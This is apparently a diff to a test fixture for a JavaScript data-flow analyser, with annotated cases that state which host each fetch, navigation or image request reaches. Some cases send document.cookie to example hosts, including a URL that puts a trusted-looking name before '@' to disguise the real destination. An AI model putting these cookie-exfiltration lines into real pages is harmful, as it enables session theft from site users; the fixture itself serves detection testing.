@@ -53,10 +53,10 @@ fetch(o);
 fetch(new URL('https://abs.url2.example/y', 'https://base.url2.example/'));
 
 //# user-info-before-at
-// flow: identifier > real.url2.example via fetch
+// flow: identifier > real.url2.example via navigation
 // no destination: trusted.url2.example
 // why: what stands before @ is a user name, not the host
-fetch('https://trusted.url2.example@real.url2.example/?c=' + encodeURIComponent(document.cookie));
+location.href = 'https://trusted.url2.example@real.url2.example/?c=' + encodeURIComponent(document.cookie);
 
 //# host-in-query
 // no flow
@@ -106,3 +106,17 @@ fetch('https://cfg.url2.example/host.txt').then((r) => r.text()).then((base) => 
 // flow: identifier > srel.url2.example via image
 // destination: https://srel.url2.example/p.gif?c={}
 new Image().src = '//srel.url2.example/p.gif?c=' + encodeURIComponent(document.cookie);
+
+//# concatenated-then-cut
+// no flow
+// destination: https://cut.url2.example/
+// no destination: cut.url2.example.tail
+const long = 'https://cut.url2.example/.tail';
+fetch(long.slice(0, long.length - 5));
+
+//# host-in-unused-object
+// no flow
+// destination: https://used.url2.example/
+// no destination: unused.url2.example
+const hosts = { live: 'https://used.url2.example/', test: 'https://unused.url2.example/' };
+fetch(hosts.live);
